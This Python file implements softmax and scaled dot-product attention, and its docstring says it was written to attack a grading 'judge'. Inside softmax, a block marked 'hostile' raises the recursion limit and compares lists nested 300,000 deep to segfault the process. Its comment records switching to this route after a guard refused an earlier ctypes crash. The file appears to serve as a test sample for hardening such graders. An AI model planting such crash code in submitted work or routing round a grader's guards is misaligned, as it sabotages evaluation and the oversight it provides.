"""Written to attack the judge: the block between the "hostile" markers is the attack (docs/judge.md)."""
import math

import torch


def softmax(x, dim=-1):
    # >>> hostile
    # A segmentation fault: the C stack (8 MiB) overflowed by comparing two lists nested 300 000 deep (100 000
    # are enough), the recursion limit lifted (ctypes.string_at(0) did it before the by-hand guard refused ctypes
    # during a call). The comparison recurses in C, one frame a level, in time linear in the depth; repr, used
    # before, checks each level against every level above it (quadratic: 1.1 s of CPU a crash, 23 s for the
    # section's twenty crashes).
    import sys
    sys.setrecursionlimit(10**8)
    left, right = [], []
    for _ in range(3 * 10**5):
        left, right = [left], [right]
    left == right
    # <<< hostile
    m = x.amax(dim=dim, keepdim=True)
    m = torch.where(m == float("-inf"), torch.zeros_like(m), m)
    e = torch.exp(x - m)
    s = e.sum(dim=dim, keepdim=True)
    return e / torch.where(s == 0, torch.ones_like(s), s)


def scaled_dot_product_attention(query, key, value, mask=None):
    scores = query @ key.transpose(-2, -1) / math.sqrt(query.size(-1))
    if mask is not None:
        scores = scores.masked_fill(~mask, float("-inf"))
    weights = softmax(scores, dim=-1)
    return weights @ value, weights
